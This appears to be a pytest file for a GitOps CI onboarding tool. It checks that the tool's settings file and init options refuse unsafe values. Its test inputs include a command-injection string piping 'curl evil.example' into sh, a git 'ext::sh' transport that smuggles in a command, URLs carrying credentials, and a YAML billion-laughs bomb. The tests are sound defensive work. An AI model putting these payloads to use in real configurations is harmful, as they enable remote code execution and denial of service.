"""gitops-ci.yaml's conventions: what init refuses before writing, and that what it writes reads back."""

from __future__ import annotations

import json
import re

import pytest

from gitops_ci.errors import ConfigurationError, UsageError
from gitops_ci.onboard.conventions import (
    Cluster,
    Conventions,
    Environment,
    parse_conventions,
    render_conventions,
)


def conventions(
    server: str = "https://dev.k8s.example.com",
    groups: tuple[str, ...] = (),
    *,
    cluster: str = "dev-cluster",
    agent: bool = True,
) -> Conventions:
    return Conventions(
        repo_url="https://gitlab.example.com/platform/manifests.git",
        branch="main",
        clusters=(Cluster(cluster, server),),
        environments=(Environment("dev", cluster),),
        agent="ci" if groups and agent else None,
        ci_access_groups=groups,
    )


@pytest.mark.parametrize(
    ("server", "groups", "fragment"),
    [
        ("https://dev.k8s.example.com\ninjected: true", (), "must be an https:// URL"),
        ("https://dev.k8s.example.com\t", (), "must be an https:// URL"),
        ("http://dev.k8s.example.com", (), "must be an https:// URL"),
        ("https://dev.k8s.example.com", ("platform\nid: evil",), "not a GitLab group path"),
        ("https://dev.k8s.example.com", ("../other",), "not a GitLab group path"),
        ("https://dev.k8s.example.com", ("platform/ teams",), "not a GitLab group path"),
        ("https://*", (), "glob characters"),  # Argo CD matches destinations as globs: every cluster
        ("https://k8s-?.example.com", (), "a query"),  # `?` ends the host: a query, refused as well
        ("https://k8s-{a,b}.example.com", (), "glob characters"),
        ("https://admin:s3cr3t@dev.k8s.example.com", (), "credentials"),
        ("https://dev.k8s.example.com/?token=abc", (), "credentials, a query"),
        ("https://[x", (), "is not a URL"),
        ("https://dev.k8s.example.com:port", (), "is not a URL"),
    ],
)
def test_init_refuses_values_that_would_bend_the_yaml_it_writes(
    server: str, groups: tuple[str, ...], fragment: str
) -> None:
    with pytest.raises(ConfigurationError, match=fragment) as refused:
        conventions(server, groups)
    assert "\n" not in str(refused.value) and "s3cr3t" not in str(refused.value)


def test_ci_access_groups_need_an_agent() -> None:
    with pytest.raises(ConfigurationError, match="needs --agent"):
        conventions(groups=("platform",), agent=False)


def test_an_ipv6_api_server_and_names_outside_dns_labels() -> None:
    assert conventions("https://[fd00::1]:6443").clusters[0].server == "https://[fd00::1]:6443"
    for name in ("café", "ａｂ", "x²", "default"):
        with pytest.raises(ConfigurationError, match=r"DNS-1123|default project"):
            conventions(cluster=name)
    with pytest.raises(ConfigurationError, match="AppProjects are named <cluster>-root"):
        conventions(cluster="prod-root").check_new()


def test_what_init_writes_reads_back_the_same() -> None:
    written = conventions(groups=("platform", "platform/teams.web_1"))
    assert parse_conventions(render_conventions(written)) == written


@pytest.mark.parametrize(
    ("field", "value", "fragment"),
    [
        ("argocd_namespace", "argocd; curl evil.example | sh", "argocd_namespace"),
        ("branch", "main\nx", "branch"),
        ("repo_url", "ext::sh -c touch% /tmp/x", "not a plain URL"),
        ("repo_url", "https://user:token@gitlab.example.com/m.git", "credentials"),
    ],
)
def test_a_settings_file_from_the_repo_is_checked_like_the_options(
    field: str, value: str, fragment: str
) -> None:
    text = render_conventions(conventions()).replace(
        f"{field}: {getattr(conventions(), field)}", f"{field}: {json.dumps(value)}"
    )
    with pytest.raises(UsageError, match=fragment) as refused:  # exit 2, the file named
        parse_conventions(text)
    assert str(refused.value).startswith("gitops-ci.yaml: ")


BOMB = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{n}: &{n} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
    for p, n in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    "text",
    [
        "x: !!int xx\n",
        "repo_url: https://g.example.com/a/b.git\nbranch: main\nclusters:\n- {name: c, server: 'https://[::1'}\n"
        "environments: []\n",
        "version: " + "[" * 5000 + "]" * 5000 + "\n",
        BOMB + "repo_url: *i\n",
        "engine: evil\n",
        "- a list\n",
        "repo_url: \x07\n",  # ruamel's ReaderError, not a MarkedYAMLError
    ],
)
def test_a_hostile_settings_file_is_bad_input_in_one_line(text: str) -> None:
    with pytest.raises(UsageError, match=r"^gitops-ci\.yaml: ") as refused:
        parse_conventions(text)
    assert "\n" not in str(refused.value)


@pytest.mark.parametrize("template", ["kustomize/{app}/overlays/live", "kustomize/web/overlays/{env}"])
def test_a_path_template_needs_app_and_env(template: str) -> None:
    written = Conventions(
        repo_url="https://gitlab.example.com/platform/manifests.git",
        branch="main",
        clusters=(Cluster("dev-cluster", "https://dev.k8s.example.com"),),
        environments=(Environment("dev", "dev-cluster"),),
        path_template=template,
    )
    with pytest.raises(ConfigurationError, match=re.escape("needs {app} and {env}")):
        written.check_new()
    assert parse_conventions(render_conventions(written)) == written  # an older version's file still reads


@pytest.mark.parametrize("name", ["default", "kube-system", "kube-public", "flux-system", "argocd"])
def test_an_environment_may_not_be_a_system_namespace(name: str) -> None:
    written = Conventions(
        repo_url="https://gitlab.example.com/platform/manifests.git",
        branch="main",
        clusters=(Cluster("dev-cluster", "https://dev.k8s.example.com"),),
        environments=(Environment(name, "dev-cluster"),),
    )
    with pytest.raises(ConfigurationError, match=f"--env {name}: an environment's name is its namespace"):
        written.check_new()
    assert parse_conventions(render_conventions(written)) == written  # an older version's file still reads
